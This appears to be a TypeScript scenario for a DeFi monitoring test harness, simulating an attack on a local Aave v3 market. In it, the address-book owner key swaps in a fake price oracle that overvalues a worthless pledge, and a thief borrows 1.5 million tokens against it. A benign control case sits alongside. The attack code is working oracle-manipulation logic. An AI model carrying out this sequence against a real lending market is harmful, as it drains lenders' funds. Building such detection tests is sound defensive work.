import { type Hex, maxUint256 } from 'viem'
import { aaveMarket, units } from '../aaveMarket.ts'
import { readPackaged } from '../readPackaged.ts'
import type { Scenario } from '../scenario.ts'

const mocks = 'artifacts/contracts/mocks/oracle'
const book = 'artifacts/contracts/protocol/configuration/PoolAddressesProvider.sol/PoolAddressesProvider.json'

export const swappedOracle: Scenario = {
  name: 'swapped-oracle',
  theme: 'dependency',
  attack:
    'The key that owns the book of addresses of an Aave market names another oracle in it, which says of a worthless pledge what the thief wants; only the pool is watched.',
  twin: 'The same key names an address in the book that the market does not use, and a large lender leaves.',

  async build(stage) {
    const { deploy, call, read, mine, accounts } = stage
    const market = await aaveMarket(stage)
    const { pool, dollar, coin, lenders, use } = market
    const thief = accounts[20]!
    const provider = {
      address: await read<Hex>(pool, 'ADDRESSES_PROVIDER'),
      abi: readPackaged('@aave/core-v3', book).abi,
    }
    return {
      protect: [pool.address],
      victims: [pool.address, provider.address],
      ordinary: use,
      async attack() {
        const lie = await deploy(readPackaged('@aave/core-v3', `${mocks}/PriceOracle.sol/PriceOracle.json`), {
          from: thief,
        })
        await call(lie, 'setAssetPrice', [coin.token.address, 10n ** 15n], { from: thief })
        await call(lie, 'setAssetPrice', [dollar.token.address, 10n ** 8n], { from: thief })
        await call(coin.token, 'mint', [thief, units('1')])
        await call(coin.token, 'approve', [pool.address, maxUint256], { from: thief })
        await call(pool, 'supply', [coin.token.address, units('1'), thief, 0], { from: thief })
        await call(provider, 'setPriceOracle', [lie.address])
        await mine(3)
        await call(pool, 'borrow', [dollar.token.address, units('1500000'), 2n, 0, thief], { from: thief })
      },
      async twin() {
        const name = `0x${Buffer.from('NEWSLETTER').toString('hex').padEnd(64, '0')}` as const
        await call(provider, 'setAddress', [name, accounts[18]])
        await mine(3)
        await call(pool, 'withdraw', [dollar.token.address, maxUint256, lenders[4]], { from: lenders[4]! })
      },
    }
  },
}
